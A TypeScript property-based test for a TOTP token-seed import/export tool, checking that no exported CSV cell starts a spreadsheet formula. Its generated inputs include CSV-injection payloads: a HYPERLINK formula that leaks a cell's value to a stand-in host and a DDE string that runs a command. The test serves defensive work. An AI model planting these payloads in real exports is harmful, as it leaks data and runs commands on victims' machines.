/**
 * Issue 11 item 2, as a property: whatever a vendor file, the desk or the options put in a field
 * that reaches a CSV export (UPN, serial, manufacturer, model, user name, realm, resolver), no cell
 * of any CSV batch file (or assignment list) starts with = + - @, a tab or a CR. Fields go in two
 * ways: straight into batch rows (hand-out, roster), and through each seed importer first.
 *
 * Raise the count for a long hunt: PROPERTY_RUNS=5000 npx vitest run test/formats/formulaProperty.test.ts
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { encodeBase32 } from '../../src/core/secretCodec.js';
import { renderAssignmentList } from '../../src/formats/assignmentList.js';
import { ENTRA_CSV_HEADER } from '../../src/formats/entraCsv.js';
import { exporters, importers } from '../../src/formats/index.js';
import type { BatchFormat, BatchRow, ExportOptions, SeedFormat } from '../../src/formats/types.js';
import { GOLDEN_ROWS, chunked } from './helpers.js';

const RUNS = Number(process.env.PROPERTY_RUNS ?? 200);
const FORMULA_START = /^[=+\-@\t\r]/;

/** Text biased towards what attacks CSV: formula starts, separators, quotes, line breaks. */
const hostile = fc.oneof(
  fc.string({ maxLength: 12 }),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' =', '"=', '\n='), fc.string({ maxLength: 10 })).map(([a, b]) => a + b),
  fc.constantFrom('=HYPERLINK("https://x/?"&C2)', '@SUM(1+1)*cmd|" /C calc"!A0', '-2+3', '+1', 'Token2', 'C202', 'a,b', 'a;b', '"q"', '', ' '),
);
const upn = fc.oneof(hostile.map((local) => `${local}@example.com`), fc.constantFrom('alice@example.com', '=1+1@example.com', '-a@example.com'), hostile);
const serial = fc.oneof(hostile, fc.constantFrom('0001234567', 'T2-000099', '-1234', '=1', '@A'));

/** Cells as a spreadsheet would see them: RFC 4180 for the Entra CSV, plain splits for the rest. */
function cellsOf(format: BatchFormat | 'assign', text: string): string[] {
  if (format === 'entra-csv') {
    const cells: string[] = [];
    let cell = '';
    let quoted = false;
    let atStart = true;
    for (let i = 0; i < text.length; i++) {
      const ch = text[i]!;
      if (quoted) {
        if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
        else if (ch === '"') quoted = false;
        else cell += ch;
      } else if (ch === '"' && atStart) (quoted = true), (atStart = false);
      else if (ch === ',' || ch === '\n') (cells.push(cell), (cell = ''), (atStart = true));
      else (cell += ch), (atStart = false);
    }
    cells.push(cell);
    return cells;
  }
  const separators = format === 'multiotp-csv' ? /[;,\t]/ : /,/;
  return text.split('\n').flatMap((line) => line.split(separators));
}

const CSV_FORMATS = ['entra-csv', 'oath-csv', 'linotp-csv', 'multiotp-csv'] as const;

function expectNoFormula(rows: BatchRow[], options: ExportOptions): void {
  for (const format of CSV_FORMATS) {
    const refused = new Set(exporters[format].unsupported(rows, options).map((r) => r.serial));
    const accepted = rows.filter((row) => !refused.has(row.serial));
    if (accepted.length === 0) continue;
    const text = new TextDecoder().decode(exporters[format].render(accepted, options));
    for (const cell of cellsOf(format, text)) expect(cell, `${format}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
    if (format === 'linotp-csv' || format === 'multiotp-csv') {
      const list = new TextDecoder().decode(renderAssignmentList(format === 'linotp-csv' ? 'linotp' : 'multiotp', accepted, options));
      for (const cell of cellsOf('assign', list)) expect(cell, `${format} assignments: ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
    }
  }
}

const options = fc.record({ realm: fc.oneof(hostile, fc.constant('corp')), resolver: fc.oneof(hostile, fc.constant('')) }, { requiredKeys: [] });

describe('no CSV cell starts a formula, whatever the fields', () => {
  it('fields straight into batch rows (hand-out, roster user names, options)', () => {
    const row = fc.record({ upn, serial, manufacturer: hostile, model: hostile, userName: fc.option(hostile, { nil: undefined }) });
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 5 }), options, (specs, exportOptions) => {
        const rows = specs.map((spec, i): BatchRow => {
          const r: BatchRow = { ...GOLDEN_ROWS[0]!, ...spec, serial: `${spec.serial}${i === 0 ? '' : `-${i}`}` };
          if (spec.userName === undefined) delete r.userName;
          return r;
        });
        expectNoFormula(rows, exportOptions);
      }),
      { numRuns: RUNS },
    );
  });

  it('fields through every seed importer, then into batch rows', async () => {
    const seed = encodeBase32(new Uint8Array(20).fill(9));
    const hexSeed = Buffer.from(new Uint8Array(20).fill(9)).toString('hex');
    const csv = (text: string) => `"${text.replace(/"/g, '""')}"`;
    const xml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/\r/g, '&#13;').replace(/\t/g, '&#9;');
    const files: Record<SeedFormat, (f: { upn: string; serial: string; manufacturer: string; model: string }) => string> = {
      'entra-csv': (f) => `${ENTRA_CSV_HEADER}\n${csv(f.upn)},${csv(f.serial)},${seed},30,${csv(f.manufacturer)},${csv(f.model)}\n`,
      'graph-json': (f) => JSON.stringify([{ serialNumber: f.serial, secretKey: seed, timeIntervalInSeconds: 30, manufacturer: f.manufacturer, model: f.model }]),
      'oath-csv': (f) => `# version: 2\n${f.upn.replace(/[,\n\r]/g, '')},,,${f.serial.replace(/[,\n\r]/g, '')},${hexSeed},totp,6,30\n`,
      pskc: (f) =>
        '<?xml version="1.0"?><KeyContainer Version="1.0" xmlns="urn:ietf:params:xml:ns:keyprov:pskc"><KeyPackage>' +
        `<DeviceInfo><Manufacturer>${xml(f.manufacturer)}</Manufacturer><SerialNo>${xml(f.serial)}</SerialNo><Model>${xml(f.model)}</Model></DeviceInfo>` +
        `<Key Id="k" Algorithm="urn:ietf:params:xml:ns:keyprov:pskc:totp"><Data><Secret><PlainValue>${Buffer.from(hexSeed, 'hex').toString('base64')}</PlainValue></Secret></Data></Key></KeyPackage></KeyContainer>`,
    };
    const fields = fc.record({ upn, serial, manufacturer: hostile, model: hostile });
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...(Object.keys(files) as SeedFormat[])), fields, options, fc.option(hostile, { nil: undefined }), async (format, f, exportOptions, userName) => {
        let result;
        try {
          result = await importers[format].parse(chunked(files[format](f)), { manufacturer: 'Token2', model: 'C202' });
        } catch {
          return; // a file refused as a whole lets nothing through
        }
        const rows = result.records.map((record): BatchRow => {
          const r: BatchRow = { ...GOLDEN_ROWS[0]!, serial: record.serial, manufacturer: record.manufacturer, model: record.model, upn: record.upn ?? 'alice@example.com' };
          if (userName !== undefined) r.userName = userName;
          return r;
        });
        for (const record of result.records) {
          for (const value of [record.serial, record.manufacturer, record.model, record.upn ?? '']) expect(value).not.toMatch(FORMULA_START);
        }
        if (rows.length > 0) expectNoFormula(rows, exportOptions);
      }),
      { numRuns: RUNS },
    );
  });
});
